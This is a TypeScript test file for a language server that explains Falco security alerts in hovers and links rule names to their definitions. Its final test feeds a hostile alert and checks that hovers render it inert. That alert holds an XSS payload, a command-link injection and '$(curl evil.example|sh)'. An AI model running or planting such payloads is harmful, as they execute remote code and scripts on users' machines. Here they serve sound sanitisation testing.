import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Hover } from 'vscode-languageserver-types';
import { createAlertsService } from '../../server/src/service/alerts';
import { valueMeanings } from '../../server/src/knowledge';
import { TestHost, alertDoc, fakeRules, fixture, ruleSummaries, hostileProblems, corpusExists, STABLE_RULES } from '../fixtures/alerts/helpers';

const md = (h: Hover | null | undefined) => (h ? (h.contents as { value: string }).value : '');
const stable = () => (corpusExists ? ruleSummaries(STABLE_RULES) : []);

function hoverAt(s: ReturnType<typeof createAlertsService>, name: string, text: string, line: number, needle: string, shift = 0) {
  const lines = text.split(/\r?\n/);
  const col = lines[line].indexOf(needle);
  assert.ok(col >= 0, `${needle} on line ${line}`);
  return md(s.hover!(alertDoc(name, text), { line, character: col + shift }));
}

test('Create Symlink Over Sensitive Files (text, rules 4): target, linkpath, user_loginuid=-1 and proc_exepath explained', { skip: !corpusExists && 'corpus absent' }, () => {
  const s = createAlertsService(new TestHost(), fakeRules(stable()));
  const text = fixture('falco-rules4.log');
  const target = hoverAt(s, 'r4.log', text, 0, 'target=');
  assert.match(target, /field `evt\.arg\.target`/);
  assert.match(target, /rendered from `%evt\.arg\.target` in the output of `Create Symlink Over Sensitive Files`/);
  assert.match(hoverAt(s, 'r4.log', text, 0, 'linkpath=/tmp'), /`evt\.arg\.linkpath`/);
  const loginuid = hoverAt(s, 'r4.log', text, 0, 'user_loginuid=-1', 'user_loginuid='.length);
  assert.match(loginuid, /`user\.loginuid`/);
  assert.match(loginuid, /Value: `-1`/);
  for (const m of valueMeanings('user.loginuid', '-1')) assert.ok(loginuid.includes(m.meaning.slice(0, 20).replace(/[\\`*_{}\[\]()#+\-.!|<>~&"'=:$]/g, (c) => `\\${c}`)), 'knowledge meaning of -1 shown');
  assert.match(hoverAt(s, 'r4.log', text, 0, 'proc_exepath='), /`proc\.exepath`/);
  // The container suffix appended by Falco ≥ 0.41 maps to the container plugin's fields.
  assert.match(hoverAt(s, 'r4.log', text, 0, 'container_image_repository='), /`container\.image\.repository`/);
  const rule = hoverAt(s, 'r4.log', text, 0, 'Symlinks created');
  assert.match(rule, /\*\*Rule\*\* `Create Symlink Over Sensitive Files` \(identified by matching its output template\)/);
  assert.match(rule, /Defined in \[falco\\_rules\\\.yaml line \d+\]\(file:/);
});

test('Drop and execute new binary in container: EXE_UPPER_LAYER and EXE_WRITABLE explained (JSON and text)', { skip: !corpusExists && 'corpus absent' }, () => {
  const s = createAlertsService(new TestHost(), fakeRules(stable()));
  const json = fixture('falco-0.44.json');
  const fromFields = hoverAt(s, 'a.json', json, 0, '"EXE_WRITABLE|EXE_UPPER_LAYER"', 2);
  const fromOutput = hoverAt(s, 'a.json', json, 0, 'exe_flags=EXE_WRITABLE', 'exe_flags='.length);
  const fromText = hoverAt(s, 'r4.log', fixture('falco-rules4.log'), 1, 'exe_flags=EXE_WRITABLE', 'exe_flags='.length);
  for (const h of [fromFields, fromOutput, fromText]) {
    assert.match(h, /`evt\.arg\.flags`/);
    assert.match(h, /EXE_WRITABLE/);
    assert.match(h, /EXE_UPPER_LAYER/);
    for (const flag of ['EXE_WRITABLE', 'EXE_UPPER_LAYER']) {
      const meanings = valueMeanings('evt.arg.flags', flag).filter((m) => m.value === flag);
      if (meanings.length) assert.ok(h.includes(`\`${flag}\`: `), `${flag} meaning listed`);
    }
  }
});

test('time hovers give UTC, local time and the gap since the previous alert of the same rule', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const json = fixture('falco-0.44.json');
  const h = hoverAt(s, 'a.json', json, 2, '"time"', 1);
  assert.match(h, /`2024-06-10 14:52:30\.000000001 UTC`/);
  // The machine's own time zone (CI's may be any): the same instant read with Date's local fields.
  const instant = new Date(Date.UTC(2024, 5, 10, 14, 52, 30));
  const two = (n: number) => String(n).padStart(2, '0');
  const offset = -instant.getTimezoneOffset();
  const zone = `UTC${offset < 0 ? '-' : '+'}${two(Math.floor(Math.abs(offset) / 60))}:${two(Math.abs(offset) % 60)}`;
  const local = `${instant.getFullYear()}-${two(instant.getMonth() + 1)}-${two(instant.getDate())} ${two(instant.getHours())}:${two(instant.getMinutes())}:30.000000001 (${zone})`;
  assert.ok(h.includes(`Local: \`${local}\``), `${local} in ${h}`);
  assert.match(h, /\*\*5 min 23 s\*\* since the previous alert of `Create Symlink Over Sensitive Files` \(line 2\)/);
  assert.match(hoverAt(s, 'a.json', json, 1, '"time"', 1), /First alert of this rule/);
  const text = hoverAt(s, 'r4.log', fixture('falco-rules4.log'), 2, '14:48', 1);
  assert.match(text, /local time of the Falco host/);
  assert.match(text, /\*\*1 min 3 s\*\* since the previous alert/);
});

test('priority, tags, source, hostname and falcosidekick keys have hovers', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const json = fixture('falco-0.44.json');
  assert.match(hoverAt(s, 'a.json', json, 0, '"Critical"', 1), /\*\*Priority Critical\*\* \(3 of 8\).*\n\nFalco's order, most severe first: Emergency > Alert > \*\*Critical\*\*/);
  assert.match(hoverAt(s, 'a.json', json, 0, '"maturity_stable"', 1), /maturity level/);
  assert.match(hoverAt(s, 'a.json', json, 0, '"source"', 1), /system calls/);
  assert.match(hoverAt(s, 'a.json', json, 0, '"hostname"', 1), /FALCO_HOSTNAME/);
  const sk = fixture('falcosidekick.json');
  assert.match(hoverAt(s, 'sk.json', sk, 0, '"uuid"', 1), /falcosidekick/);
  assert.match(hoverAt(s, 'sk.json', sk, 0, '"environment"', 1), /custom field added by falcosidekick/);
  assert.match(hoverAt(s, 'sk.json', sk, 0, '"syscalls"', 1), /falcosidekick writes "syscalls"/);
  const ui = fixture('falcosidekick-ui.json');
  // The WebUI payload lists the outputs falcosidekick has enabled, not those the event reached (outputs/webui.go).
  assert.equal(hoverAt(s, 'ui.json', ui, 0, '"outputs"', 1), '**outputs**: the outputs enabled in the falcosidekick that forwarded this event (falcosidekick-ui payload): the same list for every event, not the outputs this one reached. falcosidekick sends an event to an output only when its priority is at least that output\'s `minimumpriority` (a few outputs also take only some sources).');
  assert.match(hoverAt(s, 'ui.json', ui, 0, '"fd.name"', 1), /`fd\.name`/);
});

test('an unidentified text alert maps k=v tokens through conventional names and says the rule is unidentified', () => {
  const s = createAlertsService(new TestHost(), fakeRules([]));
  const text = fixture('falco-rules3.log');
  const loginuid = hoverAt(s, 'r3.log', text, 1, 'user_loginuid=', 1);
  assert.match(loginuid, /`user_loginuid` → field `user\.loginuid`/);
  assert.match(loginuid, /The rule is unidentified/);
  assert.match(hoverAt(s, 'r3.log', text, 1, 'A shell was'), /\*\*Rule unidentified\*\*/);
  assert.match(hoverAt(s, 'r3.log', text, 1, 'container_name=web', 'container_name='.length), /`container\.name`/);
});

test('rules 3.x text (parenthesised fields, %container.info) is identified with the 3.x template', () => {
  const template = 'Symlinks created over sensitive files (target=%evt.arg.target linkpath=%evt.arg.linkpath evt_type=%evt.type user=%user.name user_uid=%user.uid user_loginuid=%user.loginuid process=%proc.name proc_exepath=%proc.exepath parent=%proc.pname command=%proc.cmdline terminal=%proc.tty %container.info)';
  const rule = { name: 'Create Symlink Over Sensitive Files', source: 'syscall', output: template, priority: 'WARNING', tags: [], enabled: true };
  const s = createAlertsService(new TestHost(), fakeRules([rule]));
  const text = fixture('falco-rules3.log');
  const command = hoverAt(s, 'r3.log', text, 0, 'command=ln', 'command='.length);
  assert.match(command, /Value: `ln -s \/etc\/shadow \/tmp\/shadow_link`/);
  assert.match(command, /rendered from `%proc\.cmdline`/);
  assert.match(hoverAt(s, 'r3.log', text, 0, 'container_name=host', 'container_name='.length), /Value: `host`/);
});

test('go to definition on a rule name opens the rule in the rules files', { skip: !corpusExists && 'corpus absent' }, () => {
  const summaries = stable();
  const s = createAlertsService(new TestHost(), fakeRules(summaries));
  const json = fixture('falco-0.44.json');
  const col = json.split('\n')[1].indexOf('"Create Symlink') + 3;
  const locs = s.definition!(alertDoc('a.json', json), { line: 1, character: col });
  assert.equal(locs.length, 1);
  assert.deepEqual(locs[0], summaries.find((r) => r.name === 'Create Symlink Over Sensitive Files')!.location);
  const text = fixture('falco-rules4.log');
  assert.equal(s.definition!(alertDoc('r4.log', text), { line: 0, character: text.indexOf('Symlinks') + 2 }).length, 1);
});

test('a hostile alert renders inert in every hover', () => {
  const rules = corpusExists ? stable() : [];
  const s = createAlertsService(new TestHost(), fakeRules(rules));
  const text = fixture('falco-hostile.log');
  const doc = alertDoc('h.log', text);
  const lines = text.split('\n');
  let hovers = 0;
  for (let line = 0; line < 2; line++) {
    for (let c = 0; c < lines[line].length; c += 3) {
      const h = md(s.hover!(doc, { line, character: c }));
      if (!h) continue;
      hovers++;
      assert.deepEqual(hostileProblems(h), [], `line ${line} col ${c}: ${h}`);
    }
  }
  assert.ok(hovers > 100);
  const cmd = md(s.hover!(doc, { line: 0, character: lines[0].indexOf('sh -c [x]') + 2 }));
  assert.ok(cmd.includes('`` sh -c [x](command:falcoLens.evil) <img src=x onerror=alert(1)> `id` $(curl evil.example|sh) | tee /tmp/o ``') || cmd.includes('``sh -c'), cmd);
});
